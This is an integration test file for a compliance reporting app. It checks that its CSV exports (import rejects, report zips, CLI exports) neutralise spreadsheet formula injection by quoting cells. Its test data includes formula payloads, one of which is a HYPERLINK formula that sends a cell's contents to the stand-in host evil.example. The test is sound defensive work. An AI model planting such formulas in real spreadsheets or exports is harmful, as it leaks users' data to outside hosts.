import { strFromU8, unzipSync } from 'fflate';
import { EvaluationService } from '../../apps/api/src/compliance/evaluation/evaluation.service';
import { csvRecords, quoteForInput } from '../support/csv-cells';
import { binary } from '../support/files';
import { DA_HEADER, ingest, PERSON_HEADER, SHORT_ARREST_HEADER, SHORT_INCIDENT_HEADER, TEST_PERSON_KEY_SECRET } from '../support/ingest-helpers';
import { CLI_MAIN, requireBuilt } from '../support/paths';
import { childEnv, runCli } from '../support/processes';
import { startTestApp, type TestApp } from '../support/test-app';

/*
 * Issue 13, Security 5: a spreadsheet runs a cell that begins with = + - @, a tab or a CR as a formula. Text that came
 * from files and users is loaded here with such payloads and read back out of every CSV the product writes (an
 * import's rejects, a report's tables, the CLI's flags and cases): no cell may begin with one of those characters,
 * and each payload must still be there, behind the single quote that makes it text.
 */
const PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Open")', '+1', '-1+2', '@SUM(1)', '\t=1', '\r=1'];
const FORMULA_START = /^[=+\-@\t\r]/;

let t: TestApp;
beforeAll(async () => {
  requireBuilt(CLI_MAIN);
  t = await startTestApp({ PERSON_KEY_SECRET: TEST_PERSON_KEY_SECRET, AUDIT_REPORT_SCHEDULER: 'false' });
});
afterAll(async () => t?.close());

const fileOf = (rows: string[][]) => rows.map((r) => r.map(quoteForInput).join(',')).join('\n') + '\n';

/** Every cell of a CSV file that begins as a formula would, with where it is. */
function formulaCells(name: string, text: string): string[] {
  return csvRecords(text).flatMap((record, r) => record.flatMap((cell, c) => (FORMULA_START.test(cell) ? [`${name} row ${r + 1} column ${c + 1}: ${JSON.stringify(cell)}`] : [])));
}

describe('no CSV the product writes begins a cell with a formula', () => {
  it('the rejects download', async () => {
    const analyst = await t.signedIn('analyst');
    // Each payload as an incident date and time: rejected, and its value kept in the rejects.
    const rows = PAYLOADS.map((payload, i) => [payload, '2024-03-09T23:00', `F20${i}03074`, `F20${i}`, `97200000${i}`, '03074', 'Robbery', 'Mission']);
    const upload = await analyst.post('/api/ingest/incidents').attach('file', Buffer.from(fileOf([SHORT_INCIDENT_HEADER, ...rows])), 'hostile.csv').expect(200);
    expect(upload.body).toMatchObject({ status: 'loaded', rejected: PAYLOADS.length });

    const download = await analyst.get(`/api/import-batches/${upload.body.batchId}/rejects.csv`).expect(200);
    expect(formulaCells('rejects.csv', download.text)).toEqual([]);
    const [header, ...records] = csvRecords(download.text);
    expect(header).toEqual(['line', 'column', 'value', 'reason']);
    expect(records.map((r) => r.slice(0, 3))).toEqual(PAYLOADS.map((payload, i) => [String(i + 2), 'Incident Datetime', `'${payload}`]));
  });

  describe('a report with hostile text in its tables, and the CLI exports', () => {
    /*
     * One robbery victim (KP-F00001) arrested the same evening for 647(b) by an agency whose name is a formula, in an
     * incident whose district is a formula (a third incident's district reads -3), loaded from a file whose name is one; a second victim
     * charged by the DA on a DA decision whose id starts with a minus. Both are flagged (PC 647.3, the DA's policy).
     */
    beforeAll(async () => {
      await ingest(
        t,
        'incidents',
        fileOf([
          SHORT_INCIDENT_HEADER,
          ['2024-03-05T20:00', '2024-03-05T21:00', 'F10103074', 'F101', '971000001', '03074', 'Robbery', PAYLOADS[0]],
          ['2024-03-12T20:00', '2024-03-12T21:00', 'F10203074', 'F102', '971000002', '03074', 'Robbery', '@SUM(1)'],
          // Text that only looks like a number is text too: it came from a file.
          ['2024-03-19T20:00', '2024-03-19T21:00', 'F10303074', 'F103', '971000003', '03074', 'Robbery', '-3'],
        ]),
        // A file name has no slash (the batch keeps a name's last path part), but may well begin with '='.
        '=HYPERLINK("evil.example","incidents").csv',
      );
      await ingest(t, 'incident-persons', fileOf([PERSON_HEADER, ['971000001', 'KP-F00001', 'victim'], ['971000002', 'KP-F00002', 'victim'], ['971000003', 'KP-F00003', 'victim']]), '@SUM(1).csv');
      await ingest(t, 'arrests', fileOf([SHORT_ARREST_HEADER, ['-F1', '971000001', 'KP-F00001', '2024-03-05T22:00', '-1+2', 'booked', '647(b) PC']]), '+arrests.csv');
      await ingest(t, 'da-decisions', fileOf([DA_HEADER, ['-D2', '971000002', 'KP-F00002', 'Charged', '2024-03-21', '', '647B/M/0']]), '-decisions.csv');
      await t.app.get(EvaluationService).evaluate({ trigger: 'on-demand', requestedBy: 'test' });
    });

    it('the report CSV zip, both editions', async () => {
      const analyst = await t.signedIn('analyst');
      const report = (await analyst.post('/api/reports').send({ month: '2024-03' }).expect(201)).body as { id: string };
      const found: string[] = [];
      let all = '';
      for (const edition of ['internal', 'public']) {
        const res = await analyst.get(`/api/reports/${report.id}/files/${edition}/csv`).buffer(true).parse(binary).expect(200);
        for (const [name, bytes] of Object.entries(unzipSync(res.body as Buffer))) {
          const text = strFromU8(bytes);
          all += text;
          found.push(...formulaCells(`${edition}/${name}`, text));
        }
      }
      expect(found).toEqual([]);
      // The payloads are there, as text.
      const cells = csvRecords(all).flat();
      expect(cells).toContain(`'=HYPERLINK("evil.example","incidents").csv`);
      expect(cells).toContain(`'${PAYLOADS[0]}`);
      expect(cells).toContain(`'@SUM(1)`);
      expect(cells).toContain(`'-3`);
    });

    it.each(['flags', 'cases'])('the CLI %s export', async (command) => {
      const run = await runCli([command, '--format', 'csv'], childEnv({ DATABASE_URL: t.databaseUrl, PERSON_KEY_SECRET: TEST_PERSON_KEY_SECRET }));
      expect(run.stderr).toBe('');
      expect(run.code).toBe(0);
      const [header, ...records] = csvRecords(run.stdout);
      expect(records.length).toBeGreaterThan(0);
      expect(formulaCells(command, run.stdout)).toEqual([]);
      const actionIds = records.map((r) => r[header.indexOf('action_id')]);
      expect(actionIds).toContain("'-F1");
      expect(actionIds).toContain("'-D2");
    });
  });
});
